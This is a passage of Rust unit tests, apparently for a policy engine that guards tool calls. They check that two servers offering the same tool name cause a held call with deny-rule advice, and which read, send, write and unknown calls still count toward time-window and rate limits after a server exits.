    for (why, d, words, want) in cases {
        let f = finding(d);
        assert!(f.reason.contains(words), "{why}: {}", f.reason);
        let got: Vec<(&str, &str, i64)> = f
            .related
            .iter()
            .map(|r| (r.server_id.as_str(), r.tool.as_str(), r.age_ms))
            .collect();
        assert_eq!(got, want, "{why}");
    }
}

#[test]
fn a_shadowing_tie_names_what_settles_it() {
    let facts = CallFacts {
        server_id: "srvA".into(),
        tool: "search_docs".into(),
        class: ToolClass::Read,
        args: ArgMarks::default(),
    };
    let shadow = ShadowFacts {
        own_pinned_ms: Some(1_000),
        peers: vec![ShadowPeer {
            server_id: "srvB".into(),
            same_command: false,
            pinned_ms: Some(2_000),
        }],
    };
    let d = decide(&CrossRules::default(), &facts, 5_000, &[], None, &shadow);
    let CrossVerdict::Block(f) = d.verdict else {
        panic!("a tie is held: {:?}", d.verdict)
    };
    assert!(f.hold);
    // The policy.toml a person would write from the advice; a `[[rules]]`
    // block is named as what does not settle it (it leaves the tool listed).
    assert!(
        f.reason
            .contains(r#"[tool_policy] (deny = [{ server = "srvB", tool = "search_docs" }]"#),
        "{}",
        f.reason
    );
    assert!(f.reason.contains("[[rules]] block"), "{}", f.reason);
}

/// What an alone server's wrap writes when it exits: reads a sequence rule
/// can still link to, and calls that still count toward its limits.
#[test]
fn only_calls_that_still_matter_outlive_an_exit() {
    let defaults = CrossRules::default();
    for (class, age_ms, kept, why) in [
        (
            ToolClass::Read,
            25_000,
            true,
            "a read inside the 30 s window",
        ),
        (ToolClass::Read, 31_000, false, "a read past every window"),
        (
            ToolClass::Send,
            10_000,
            true,
            "counts toward the rate limit (24 s)",
        ),
        (
            ToolClass::Unknown,
            25_000,
            true,
            "its result's marks can still be linked (30 s)",
        ),
        (
            ToolClass::Write,
            25_000,
            false,
            "past burst and rate windows",
        ),
    ] {
        assert_eq!(defaults.outlives_exit(class, age_ms), kept, "{why}");
    }
    let unlimited = CrossRules {
        burst: None,
        rate: None,
        ..CrossRules::default()
    };
    assert!(
        !unlimited.outlives_exit(ToolClass::Write, 1),
        "no limit counts it"
    );
    assert!(
        unlimited.outlives_exit(ToolClass::Read, 1),
        "a read still links"
    );
}
